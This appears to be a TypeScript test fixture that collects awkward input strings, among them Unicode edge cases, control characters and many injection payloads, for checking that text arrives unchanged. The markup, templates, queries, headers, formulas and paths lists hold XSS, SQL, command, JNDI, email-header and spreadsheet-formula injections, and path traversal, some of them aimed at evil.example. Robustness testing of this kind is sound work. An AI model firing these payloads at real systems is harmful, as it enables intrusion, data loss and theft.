// Strings that trip up programs, in the spirit of the well-known lists. All of them are legitimate: somebody
// may type any of them, and each must arrive as typed.

const words = [
  'undefined',
  'null',
  'NULL',
  'nil',
  'None',
  'true',
  'false',
  'NaN',
  'Infinity',
  '-Infinity',
  '[object Object]',
  'hasOwnProperty',
  'constructor',
  '__proto__',
  'prototype',
  'toString',
  'then',
  'CON',
  'PRN',
  'LPT1',
]

const numbers = [
  '0',
  '-0',
  '1e309',
  '1E-400',
  '0x7fffffff',
  '9007199254740993',
  '99999999999999999999999999999999',
  '-1',
  '1/0',
  '1,000.00',
  '1.000,00',
  '١٢٣٤٥',
  '０１２３',
  '²³½',
]

const scripts = [
  'Łukasz Żółć',
  'Ærøskøbing',
  'İstanbul ıI',
  'Straße ẞ',
  '李小龍',
  '田中さんにあげて下さい',
  '찦차를 타고 온 펲시맨',
  'مريم العتيبي',
  'הָיְתָה תֹהוּ',
  'ภาษาไทยไม่มีช่องว่าง',
  'हिन्दी में लिखा',
  'Ελλάς ΟΔΥΣΣΕΎΣ',
  'Ђорђе Їжак',
  'ᚠᛇᚻ᛫ᛒᛦᚦ',
  'ﷺ ﷽',
  'ŧħɇ ɋᵾɨȼꝁ',
  'ǆ ﬃ ﬀ',
  'e\u0301\u0301\u0301\u0301 composed é',
  'Z\u0351\u036b\u0343\u036aa\u0328\u0334\u0321\u0321l\u0322\u0335g\u0337\u0316o\u0321\u0324',
]

const symbols = [
  '😀😀',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈 🇺🇸',
  '👋🏽',
  '𝕳𝖊𝖑𝖑𝖔',
  '∀x∈ℝ ⌈x⌉',
  '¯\\_(ツ)_/¯',
  '(╯°□°）╯︵ ┻━┻',
  'Ω≈ç√∫˜µ≤≥÷',
  '⁰⁴⁵₀₁₂',
  '“smart” ‘quotes’ – —',
  'ⒶⒷⒸ',
]

const invisible = [
  'right \u202eto left\u202c again',
  'zero\u200bwidth\u200djoin\ufeffbom',
  'non\u00a0breaking\u2007spaces\u3000wide',
  'soft\u00adhyphen',
  'line\u2028separator\u2029paragraph',
  'tab\tand\nnewline\r\nand\rreturn',
  '\u2066isolate\u2069',
  'private \ue000 use \udbff\udffd',
  'noncharacter \uffff \ufffe',
  'replacement \ufffd',
]

/** Strings that `cleanText` changes: control characters and lone surrogates. */
const dirty = [
  'NUL \u0000 inside',
  '\u0000\u0001\u0002 start',
  'bell\u0007 back\u0008 escape \u001b[31mred\u001b[0m',
  'C1 \u0085 \u009b31m',
  'delete \u007f key',
  'lone \ud83d high',
  'lone \ude00 low',
  'swapped \ude00\ud83d pair',
  'form\u000cfeed vertical\u000btab',
]

const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x>",
  '</textarea><script>alert(1)</script>',
  '</td></tr></table><h1>Overdue</h1>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<b>x</b>">',
  '<style>*{display:none}</style>',
  '<!-- comment --><![CDATA[x]]>',
  '<b>bold & brave</b>',
  '&lt;b&gt; &amp;amp; &#39; &nbsp;',
  '<ScRiPt\u00a0x>alert(1)</ScRiPt>',
  '<input autofocus onfocus=alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0">',
  '`onmouseover=alert(1)//',
  'javascript:alert(1)',
  'data:text/html,<b>x</b>',
]

const templates = [
  '{{7*7}}',
  `$\{7*7}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '{% raw %}{{ x }}{% endraw %}',
  '{0} %s %d %n %x',
  '$&$1$`$$',
  '\\1\\0',
  '$(touch /tmp/x)',
  '`id`',
  '; ls -la | cat',
  '%USERPROFILE% $HOME',
  `$\{jndi:ldap://evil.example/a}`,
]

const queries = [
  "'; DROP TABLE contact_submissions; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(5)',
  "\\'; --",
  '" OR ""="',
  '%_\\%',
  '$1 $2 :name ?',
  '?? ??? \\?',
  '{"$gt": ""}',
  '*)(uid=*))(|(uid=*',
  'FLUSHALL\r\nDEL *',
]

const headers = [
  'x\r\nBcc: everybody@evil.example',
  'x\nSubject: other',
  'x\r\n\r\n<b>body</b>',
  'x%0d%0aBcc: everybody@evil.example',
  '=?utf-8?B?QmNjOg==?=',
  'Ann, Bob <bob@evil.example>',
  '"Ann" <ann@evil.example>, x',
  'x\u2028Bcc: y',
  '.\r\nQUIT',
  '\r\n.\r\n',
]

const formulas = [
  '=1+1',
  '+1-1',
  '-2+3',
  '@SUM(A1:A9)',
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("x")',
  '\t=1',
]

const paths = [
  '../../../etc/passwd',
  '..\\..\\boot.ini',
  'file:///etc/passwd',
  '/dev/null',
  'C:\\x',
  '%2e%2e%2f',
]

const blanks = [
  '  leading',
  'trailing  ',
  ' \t both \n ',
  'a',
  '.',
  "'",
  '"',
  '\\',
  '/',
  '&',
  '<',
  '%',
]

export const naughtyStrings: readonly string[] = [
  words,
  numbers,
  scripts,
  symbols,
  invisible,
  dirty,
  markup,
  templates,
  queries,
  headers,
  formulas,
  paths,
  blanks,
].flat()
